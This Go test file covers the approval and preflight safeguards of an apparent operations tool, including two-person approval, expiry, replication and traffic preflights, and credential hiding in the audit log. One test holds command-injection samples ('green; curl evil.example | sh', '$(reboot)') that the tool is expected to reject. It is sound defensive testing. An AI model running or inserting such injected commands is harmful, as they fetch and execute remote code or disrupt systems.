package app

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/url"
	"path/filepath"
	"reflect"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/nightowl/nightowl"
	"github.com/nightowl/nightowl/audit"
	"github.com/nightowl/nightowl/internal/clocktest"
	"github.com/nightowl/nightowl/internal/testdb"
)

// actionAPI drives the action endpoints of a running server as one person,
// by their API token.
type actionAPI struct {
	t     *testing.T
	base  string
	token string
}

// do sends a JSON body (or none) and decodes the answer into out, whatever
// its status; it returns the status and the error message, if any.
func (c actionAPI) do(method, path string, body any, out any) (int, string) {
	c.t.Helper()
	var in string
	if body != nil {
		b, err := json.Marshal(body)
		if err != nil {
			c.t.Fatal(err)
		}
		in = string(b)
	}
	resp, text := call(c.t, method, c.base+path, in, map[string]string{
		"Authorization": "Bearer " + c.token, "Content-Type": "application/json"})
	var e errorJSON
	json.Unmarshal([]byte(text), &e)
	if out != nil && resp.StatusCode < 300 {
		if err := json.Unmarshal([]byte(text), out); err != nil {
			c.t.Fatalf("%s %s: %v: %s", method, path, err, text)
		}
	}
	return resp.StatusCode, e.Error.Message
}

type requestAnswer struct {
	Request nightowl.ActionRequest `json:"request"`
	Plan    nightowl.ActionPlan    `json:"plan"`
}

// request asks for an action; it returns the status, the request (when
// made) and the error message (when not).
func (c actionAPI) request(action string, params map[string]string, confirm, reason string) (int, nightowl.ActionRequest, string) {
	c.t.Helper()
	var got requestAnswer
	code, msg := c.do("POST", "/api/v1/actions/"+action+"/requests",
		map[string]any{"params": params, "confirm": confirm, "reason": reason}, &got)
	return code, got.Request, msg
}

func (c actionAPI) step(id, verb string) (int, nightowl.ActionRequest, string) {
	c.t.Helper()
	var got requestAnswer
	code, msg := c.do("POST", "/api/v1/action-requests/"+id+"/"+verb, nil, &got)
	return code, got.Request, msg
}

func (c actionAPI) show(id string) requestAnswer {
	c.t.Helper()
	var got requestAnswer
	if code, msg := c.do("GET", "/api/v1/action-requests/"+id, nil, &got); code != 200 {
		c.t.Fatalf("GET request %s: %d %s", id, code, msg)
	}
	return got
}

// checkFacts returns the facts of a check's last run, through the API.
func checkFacts(t *testing.T, base, admin, name string) nightowl.Facts {
	t.Helper()
	var c struct {
		Facts nightowl.Facts `json:"facts"`
	}
	getJSON(t, admin, "GET", base+"/api/v1/checks/"+name, &c)
	return c.Facts
}

// actionAudit returns the action entries of the audit log, oldest first,
// as "actor | action | subject | detail", through the API as an admin.
func actionAudit(t *testing.T, base, admin string) []string {
	t.Helper()
	var got struct{ Entries []nightowl.AuditEntry }
	if code := getJSON(t, admin, "GET", base+"/api/v1/audit?action=action.&limit=1000", &got); code != 200 {
		t.Fatalf("GET /api/v1/audit: %d", code)
	}
	var lines []string
	for i := len(got.Entries) - 1; i >= 0; i-- {
		e := got.Entries[i]
		lines = append(lines, strings.Join([]string{e.Actor, e.Action, e.Subject, e.Detail}, " | "))
	}
	return lines
}

// matchLines compares log lines with wants, in which "…" stands for any
// text (a duration).
func matchLines(t *testing.T, what string, got, want []string) {
	t.Helper()
	ok := len(got) == len(want)
	for i := 0; ok && i < len(want); i++ {
		head, tail, cut := strings.Cut(want[i], "…")
		if !cut {
			ok = got[i] == want[i]
		} else {
			ok = strings.HasPrefix(got[i], head) && strings.HasSuffix(got[i], tail) && len(got[i]) >= len(head)+len(tail)
		}
	}
	if !ok {
		t.Errorf("%s:\n%s\nwant:\n%s", what, strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
}

// TestRestoreTableWaitsForReplicationStopped is the brief's restore
// outage, against a MariaDB primary and replica of the test's own: the
// restore-table action's preflight requires replication to the replica to
// be stopped, so that the replica does not replay the restore's DROP TABLE.
// Requested while replication runs, it is refused with what the preflight
// saw; after STOP SLAVE, and the check having seen it, it is made; its
// requester cannot approve it; someone else does, and it runs. A second
// request, approved while replication was stopped, is refused at run time
// once replication has started again. Every step is in the audit log,
// which verifies.
func TestRestoreTableWaitsForReplicationStopped(t *testing.T) {
	t.Parallel()
	_, replica := testdb.StartMariaDBReplication(t)
	dir := t.TempDir()
	cfg := filepath.Join(dir, "nightowl.yaml")
	writeConfig(t, cfg, fmt.Sprintf(`storage: {sqlite: test.db}
defaults: {interval: 1s, timeout: 1s, fail_after: 1}
checks:
  - name: orders-replica
    mysql: {dsn: %q}
actions:
  - name: restore-table
    description: Restore a table of the orders database from last night's dump
    run: [/bin/echo, restoring, "{{table}}"]
    params: {table: {pattern: "^[a-z_]+$"}}
    preflight: ['check("orders-replica").replica.sql_running == false']
    approvals: 1
    confirm: table
`, replica.DSN))
	a := startApp(t, cfg)
	admin := adminToken(t, a)
	base := "http://" + a.Addr()
	ana := actionAPI{t, base, userToken(t, a, "ana", nightowl.RoleResponder)}
	bo := actionAPI{t, base, userToken(t, a, "bo", nightowl.RoleResponder)}

	replicating := func(want bool) func() bool {
		return func() bool {
			rep, _ := checkFacts(t, base, admin, "orders-replica")["replica"].(map[string]any)
			return rep != nil && rep["sql_running"] == want && (!want || rep["io_running"] == true)
		}
	}
	waitFor(t, "the check to see replication running", replicating(true))

	params := map[string]string{"table": "orders"}
	const reason = "orders dropped by mistake at 02:10"
	code, _, msg := ana.request("restore-table", params, "orders", reason)
	const refusal = `preflight failed: check("orders-replica").replica.sql_running == false (check("orders-replica").replica.sql_running = true)`
	if code != 409 || msg != refusal {
		t.Fatalf("request while replicating: %d %q, want 409 %q", code, msg, refusal)
	}

	replica.Exec(t, "STOP SLAVE")
	waitFor(t, "the check to see replication stopped", replicating(false))

	code, req, msg := ana.request("restore-table", params, "orders", reason)
	if code != 201 || req.State != nightowl.RequestPending || req.Needs != 1 || req.RequestedBy != "ana" {
		t.Fatalf("request with replication stopped: %d %q %+v", code, msg, req)
	}
	id, hash := req.ID, req.PlanHash

	code, _, msg = ana.step(id, "approve")
	if code != 403 || msg != "you requested "+id+": someone else must approve it" {
		t.Errorf("self-approval: %d %q, want 403", code, msg)
	}
	if code, _, msg := ana.step(id, "run"); code != 409 || !strings.Contains(msg, "0 of the 1 approvals") {
		t.Errorf("run before approval: %d %q, want 409", code, msg)
	}
	if got := bo.show(id); !reflect.DeepEqual(got.Plan.Run, []string{"/bin/echo", "restoring", "orders"}) || got.Request.State != nightowl.RequestPending {
		t.Errorf("what the approver sees: %+v", got)
	}
	code, req, msg = bo.step(id, "approve")
	if code != 200 || req.State != nightowl.RequestApproved || len(req.Approvals) != 1 || req.Approvals[0].By != "bo" {
		t.Fatalf("approval by bo: %d %q %+v", code, msg, req)
	}
	code, req, msg = ana.step(id, "run")
	if code != 200 || req.State != nightowl.RequestSucceeded || req.ExitCode == nil || *req.ExitCode != 0 ||
		req.Output != "restoring orders\n" || req.RanBy != "ana" {
		t.Fatalf("run: %d %q %+v", code, msg, req)
	}
	if code, _, msg := ana.step(id, "run"); code != 409 || msg != "request "+id+" has run: ana started it at "+req.StartedAt.Format(time.RFC3339)+" and it succeeded" {
		t.Errorf("running it again: %d %q", code, msg)
	}

	// Preflight again at run time: approved while replication was
	// stopped, refused once it runs again, and left approved for when
	// it is stopped again.
	code, req2, msg := ana.request("restore-table", map[string]string{"table": "order_lines"}, "order_lines", reason)
	if code != 201 {
		t.Fatalf("second request: %d %q", code, msg)
	}
	if code, _, msg := bo.step(req2.ID, "approve"); code != 200 {
		t.Fatalf("second approval: %d %q", code, msg)
	}
	replica.Exec(t, "START SLAVE")
	waitFor(t, "the check to see replication running again", replicating(true))
	code, _, msg = bo.step(req2.ID, "run")
	if code != 409 || msg != refusal {
		t.Errorf("run with replication running: %d %q, want 409 %q", code, msg, refusal)
	}
	if got := bo.show(req2.ID).Request; got.State != nightowl.RequestApproved || got.RanBy != "" {
		t.Errorf("after the refused run: %+v", got)
	}

	matchLines(t, "the audit log", actionAudit(t, base, admin), []string{
		"ana | action.request | restore-table | refused: " + refusal,
		"ana | action.request | " + id + " | restore-table table=orders; reason: " + reason + "; plan " + hash,
		"ana | action.approve | " + id + " | refused: the requester cannot approve their own request",
		"bo | action.approve | " + id + " | restore-table; plan " + hash,
		"ana | action.run | " + id + ` | restore-table: ["/bin/echo" "restoring" "orders"]; plan ` + hash,
		"ana | action.result | " + id + " | succeeded (exit 0) in …",
		"ana | action.request | " + req2.ID + " | restore-table table=order_lines; reason: " + reason + "; plan " + req2.PlanHash,
		"bo | action.approve | " + req2.ID + " | restore-table; plan " + req2.PlanHash,
		"bo | action.run | " + req2.ID + " | refused: " + refusal,
	})
	if rep, err := audit.Verify(t.Context(), a.store); err != nil || !rep.OK() {
		t.Errorf("verify: %v %s", err, rep)
	}
}

// cloud stands for a cloud provider's API: it records the requests it is
// sent.
type cloud struct {
	mu  sync.Mutex
	got []string
	srv *httptest.Server
}

func newCloud(t *testing.T) *cloud {
	c := &cloud{}
	c.srv = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		c.mu.Lock()
		c.got = append(c.got, r.Method+" "+r.URL.Path+" "+r.Header.Get("Authorization"))
		c.mu.Unlock()
		fmt.Fprintf(w, `{"terminating": %q}`, strings.TrimPrefix(r.URL.Path, "/clusters/"))
	}))
	t.Cleanup(c.srv.Close)
	return c
}

func (c *cloud) requests() []string {
	c.mu.Lock()
	defer c.mu.Unlock()
	return append([]string(nil), c.got...)
}

// TestTerminateClusterOnlyWhenIdle is the brief's other outage: the live
// cluster terminated instead of the new one. The terminate-cluster action's
// preflight requires the target cluster's traffic check to be down: it is
// refused for blue, which serves, and allowed for green, which is idle. A
// parameter with shell metacharacters, a parameter the action does not
// have, and a wrong confirmation are refused before anything else; the
// request's credentials are never shown.
func TestTerminateClusterOnlyWhenIdle(t *testing.T) {
	t.Parallel()
	blue := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { fmt.Fprint(w, "serving") }))
	t.Cleanup(blue.Close)
	green := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		http.Error(w, "no backends", http.StatusServiceUnavailable)
	}))
	t.Cleanup(green.Close)
	cl := newCloud(t)

	dir := t.TempDir()
	cfg := filepath.Join(dir, "nightowl.yaml")
	writeConfig(t, cfg, fmt.Sprintf(`storage: {sqlite: test.db}
defaults: {interval: 1s, timeout: 1s, fail_after: 1}
checks:
  - name: traffic-blue
    http: {url: "%s/"}
  - name: traffic-green
    http: {url: "%s/"}
actions:
  - name: terminate-cluster
    http:
      url: "%s/clusters/{{cluster}}"
      method: DELETE
      headers: {Authorization: "Bearer cloud-s3cret"}
    params: {cluster: {pattern: "^(blue|green)$"}}
    preflight: ['check("traffic-" + params.cluster).status == "down"']
    approvals: 1
    confirm: cluster
`, blue.URL, green.URL, cl.srv.URL))
	a := startApp(t, cfg)
	admin := adminToken(t, a)
	base := "http://" + a.Addr()
	ana := actionAPI{t, base, userToken(t, a, "ana", nightowl.RoleResponder)}
	bo := actionAPI{t, base, userToken(t, a, "bo", nightowl.RoleResponder)}
	waitFor(t, "blue up and green down", func() bool {
		var list struct{ Checks []checkJSON }
		getJSON(t, admin, "GET", base+"/api/v1/checks", &list)
		st := map[string]string{}
		for _, c := range list.Checks {
			st[c.Name] = c.Status
		}
		return st["traffic-blue"] == "up" && st["traffic-green"] == "down"
	})

	const reason = "green is the old cluster after the cut-over"
	refusals := []struct {
		name    string
		params  map[string]string
		confirm string
		code    int
		msg     string
	}{
		{"blue serves", map[string]string{"cluster": "blue"}, "blue", 409,
			`preflight failed: check("traffic-" + params.cluster).status == "down" (check("traffic-" + params.cluster).status = "up", params.cluster = "blue")`},
		{"shell metacharacters", map[string]string{"cluster": "green; curl evil.example | sh"}, "green; curl evil.example | sh", 400,
			`parameter cluster: "green; curl evil.example | sh" does not match ^(blue|green)$`},
		{"command substitution", map[string]string{"cluster": "$(reboot)"}, "$(reboot)", 400,
			`parameter cluster: "$(reboot)" does not match ^(blue|green)$`},
		{"a parameter it does not have", map[string]string{"cluster": "green", "region": "eu"}, "green", 400,
			`action terminate-cluster has no parameter "region"`},
		{"no parameter", nil, "", 400, "parameter cluster is required"},
		{"wrong confirmation", map[string]string{"cluster": "green"}, "blue", 400,
			"to confirm, type the value of cluster (green) exactly"},
	}
	for _, r := range refusals {
		t.Run(r.name, func(t *testing.T) {
			ana.t = t
			code, _, msg := ana.request("terminate-cluster", r.params, r.confirm, reason)
			if code != r.code || msg != r.msg {
				t.Errorf("%d %q, want %d %q", code, msg, r.code, r.msg)
			}
		})
	}
	ana.t = t

	code, req, msg := ana.request("terminate-cluster", map[string]string{"cluster": "green"}, "green", reason)
	if code != 201 || req.State != nightowl.RequestPending {
		t.Fatalf("terminate green: %d %q %+v", code, msg, req)
	}
	got := bo.show(req.ID)
	wantPlan := nightowl.ActionPlan{HTTP: &nightowl.ActionHTTP{URL: cl.srv.URL + "/clusters/green", Method: "DELETE",
		Headers: map[string]string{"Authorization": "(hidden)"}},
		Preflight: []string{`check("traffic-" + params.cluster).status == "down"`}}
	if !reflect.DeepEqual(got.Plan, wantPlan) {
		t.Errorf("plan = %+v, want %+v", got.Plan.HTTP, wantPlan.HTTP)
	}
	var list struct{ Actions []nightowl.ActionView }
	getJSON(t, admin, "GET", base+"/api/v1/actions", &list)
	if len(list.Actions) != 1 || list.Actions[0].HTTP.Headers["Authorization"] != "(hidden)" || list.Actions[0].Needs != 1 {
		t.Errorf("actions = %+v", list.Actions)
	}
	if code, _, msg := bo.step(req.ID, "approve"); code != 200 {
		t.Fatalf("approve: %d %q", code, msg)
	}
	code, req, msg = bo.step(req.ID, "run")
	if code != 200 || req.State != nightowl.RequestSucceeded || req.ExitCode == nil || *req.ExitCode != 200 ||
		req.Output != `{"terminating": "green"}` {
		t.Fatalf("run: %d %q %+v", code, msg, req)
	}
	if got, want := cl.requests(), []string{"DELETE /clusters/green Bearer cloud-s3cret"}; !reflect.DeepEqual(got, want) {
		t.Errorf("the cloud got %q, want %q", got, want)
	}
	for _, line := range actionAudit(t, base, admin) {
		if strings.Contains(line, "s3cret") {
			t.Errorf("a credential in the audit log: %s", line)
		}
	}
}

// TestExpiredRequestCannotRun runs the server on a fake clock: a request
// approved and then left for more than an hour has expired, and cannot be
// run or approved.
func TestExpiredRequestCannotRun(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	cfg := filepath.Join(dir, "nightowl.yaml")
	writeConfig(t, cfg, `storage: {sqlite: test.db}
checks:
  - name: closed
    tcp: {addr: "127.0.0.1:1"}
    interval: 24h
actions:
  - name: flush-cache
    run: [/bin/true]
    approvals: 1
`)
	clock := clocktest.New(time.Date(2026, 3, 17, 22, 0, 0, 0, time.UTC))
	a, err := New(context.Background(), Options{ConfigPath: cfg, Listen: "127.0.0.1:0", Clock: clock,
		Logger: slog.New(slog.NewTextHandler(io.Discard, nil)), BcryptCost: testCost, PublicTTL: -1})
	if err != nil {
		t.Fatal(err)
	}
	if err := a.Start(context.Background()); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { a.Stop(context.Background()) })
	admin := adminToken(t, a)
	base := "http://" + a.Addr()
	ana := actionAPI{t, base, userToken(t, a, "ana", nightowl.RoleResponder)}
	bo := actionAPI{t, base, userToken(t, a, "bo", nightowl.RoleResponder)}
	cy := actionAPI{t, base, userToken(t, a, "cy", nightowl.RoleResponder)}

	code, req, msg := ana.request("flush-cache", nil, "", "stale prices")
	if code != 201 || !req.ExpiresAt.Equal(clock.Now().Add(time.Hour)) {
		t.Fatalf("request: %d %q %+v", code, msg, req)
	}
	if code, _, msg := bo.step(req.ID, "approve"); code != 200 {
		t.Fatalf("approve: %d %q", code, msg)
	}
	clock.Advance(time.Hour + time.Second)
	want := "request " + req.ID + " expired at 2026-03-17T23:00:00Z"
	if code, _, msg := ana.step(req.ID, "run"); code != 409 || msg != want {
		t.Errorf("run after expiry: %d %q, want 409 %q", code, msg, want)
	}
	if code, _, msg := cy.step(req.ID, "approve"); code != 409 || msg != want {
		t.Errorf("approval after expiry: %d %q, want 409 %q", code, msg, want)
	}
	if got := ana.show(req.ID).Request; got.State != nightowl.RequestExpired || got.RanBy != "" {
		t.Errorf("after expiry: %+v", got)
	}
	matchLines(t, "the audit log", actionAudit(t, base, admin), []string{
		"ana | action.request | " + req.ID + " | flush-cache (no parameters); reason: stale prices; plan " + req.PlanHash,
		"bo | action.approve | " + req.ID + " | flush-cache; plan " + req.PlanHash,
		"nightowl | action.expire | " + req.ID + " | flush-cache",
	})
}

// TestSecondAccountCannotApprove: an admin who requests an action, then
// makes a second account (or promotes one) to approve it, is refused: an
// approval counts only from an account that had its role before the
// request was made. Making the account is recorded with who made it, and
// so is the refusal.
func TestSecondAccountCannotApprove(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	cfg := filepath.Join(dir, "nightowl.yaml")
	writeConfig(t, cfg, `storage: {sqlite: test.db}
checks:
  - name: closed
    tcp: {addr: "127.0.0.1:1"}
    interval: 24h
actions:
  - name: flush-cache
    run: [/bin/true]
    approvals: 1
`)
	a := startApp(t, cfg)
	admin := adminToken(t, a)
	base := "http://" + a.Addr()
	boss := actionAPI{t, base, userToken(t, a, "boss", nightowl.RoleAdmin)}
	bo := actionAPI{t, base, userToken(t, a, "bo", nightowl.RoleResponder)}
	userToken(t, a, "vic", nightowl.RoleViewer)
	web := newBrowser(t, base)
	web.signIn("boss")
	// Adding a user asks for a recent second factor.
	web.enrol()

	code, req, msg := boss.request("flush-cache", nil, "", "stale prices")
	if code != 201 {
		t.Fatalf("request: %d %q", code, msg)
	}
	_, page := web.get("/admin/users")
	resp, body := web.post("/admin/users", url.Values{"csrf": {csrfIn(t, page)}, "name": {"boss2"}, "role": {"responder"},
		"password": {"correct horse battery staple"}})
	wantRedirect(t, resp, body, "/admin/users")
	if err := a.Access().SetRole(t.Context(), "vic", nightowl.RoleResponder); err != nil {
		t.Fatal(err)
	}
	boss2 := actionAPI{t, base, userToken(t, a, "boss2", nightowl.RoleResponder)}
	vic := actionAPI{t, base, userToken(t, a, "vic", nightowl.RoleResponder)}

	for _, c := range []struct {
		who  actionAPI
		name string
		why  string
	}{
		{boss2, "boss2", "the account boss2 was created at "},
		{vic, "vic", "the account vic was given its role (responder) at "},
	} {
		code, _, msg := c.who.step(req.ID, "approve")
		if want := "your approval of " + req.ID + " cannot count: " + c.why; code != 403 || !strings.HasPrefix(msg, want) ||
			!strings.HasSuffix(msg, ", after the request was made at "+req.RequestedAt.Format(time.RFC3339)) {
			t.Errorf("approval by %s: %d %q, want 403 %q…", c.name, code, msg, want)
		}
	}
	if got := bo.show(req.ID).Request; got.State != nightowl.RequestPending || len(got.Approvals) != 0 {
		t.Fatalf("after the refused approvals: %+v", got)
	}
	if code, _, msg := bo.step(req.ID, "approve"); code != 200 {
		t.Fatalf("approval by bo, a responder from before: %d %q", code, msg)
	}
	matchLines(t, "the audit log", actionAudit(t, base, admin), []string{
		"boss | action.request | " + req.ID + " | flush-cache (no parameters); reason: stale prices; plan " + req.PlanHash,
		"boss2 | action.approve | " + req.ID + " | refused: the account boss2 was created at …, after the request was made at " + req.RequestedAt.Format(time.RFC3339),
		"vic | action.approve | " + req.ID + " | refused: the account vic was given its role (responder) at …, after the request was made at " + req.RequestedAt.Format(time.RFC3339),
		"bo | action.approve | " + req.ID + " | flush-cache; plan " + req.PlanHash,
	})
	var log struct{ Entries []nightowl.AuditEntry }
	getJSON(t, admin, "GET", base+"/api/v1/audit?action=user.add&limit=100", &log)
	found := false
	for _, e := range log.Entries {
		found = found || e.Actor == "boss" && e.Subject == "boss2" && e.Detail == "role responder"
	}
	if !found {
		t.Errorf("the account boss made is not recorded as made by boss: %+v", log.Entries)
	}
}

// TestApprovalCoversTheCommand: a request approved while its action ran
// ["/bin/echo", "orders"] does not run what a reload made of the action;
// it goes back to pending, and the API shows the plan it now needs
// approving.
func TestApprovalCoversTheCommand(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	cfg := filepath.Join(dir, "nightowl.yaml")
	conf := func(run string) string {
		return `storage: {sqlite: test.db}
checks:
  - name: closed
    tcp: {addr: "127.0.0.1:1"}
    interval: 24h
actions:
  - name: restore
    run: ` + run + `
    params: {table: {pattern: "^[a-z]+$"}}
    approvals: 1
`
	}
	writeConfig(t, cfg, conf(`[/bin/echo, "{{table}}"]`))
	a := startApp(t, cfg)
	admin := adminToken(t, a)
	base := "http://" + a.Addr()
	ana := actionAPI{t, base, userToken(t, a, "ana", nightowl.RoleResponder)}
	bo := actionAPI{t, base, userToken(t, a, "bo", nightowl.RoleResponder)}

	code, req, msg := ana.request("restore", map[string]string{"table": "orders"}, "", "orders dropped")
	if code != 201 {
		t.Fatalf("request: %d %q", code, msg)
	}
	if got := bo.show(req.ID).Plan.Run; !reflect.DeepEqual(got, []string{"/bin/echo", "orders"}) {
		t.Fatalf("the plan bo approves: %q", got)
	}
	if code, _, msg := bo.step(req.ID, "approve"); code != 200 {
		t.Fatalf("approve: %d %q", code, msg)
	}
	writeConfig(t, cfg, conf(`[/bin/echo, DROP-EVERYTHING, "{{table}}"]`))
	if err := a.Reload(t.Context()); err != nil {
		t.Fatal(err)
	}
	code, _, msg = ana.step(req.ID, "run")
	if code != 409 || !strings.HasPrefix(msg, "request "+req.ID+" cannot run yet: its plan changed since it was requested") {
		t.Fatalf("run after the reload: %d %q", code, msg)
	}
	got := bo.show(req.ID)
	if got.Request.State != nightowl.RequestPending || len(got.Request.Approvals) != 0 || got.Request.RanBy != "" ||
		!reflect.DeepEqual(got.Plan.Run, []string{"/bin/echo", "DROP-EVERYTHING", "orders"}) || got.Request.PlanHash == req.PlanHash {
		t.Fatalf("after the refused run: %+v, plan %q", got.Request, got.Plan.Run)
	}
	if lines := actionAudit(t, base, admin); len(lines) != 3 || !strings.HasPrefix(lines[2], "ana | action.run | "+req.ID+" | refused: its plan changed since it was requested (now "+got.Request.PlanHash+", approved "+req.PlanHash+")") {
		t.Errorf("the audit log:\n%s", strings.Join(lines, "\n"))
	}
}
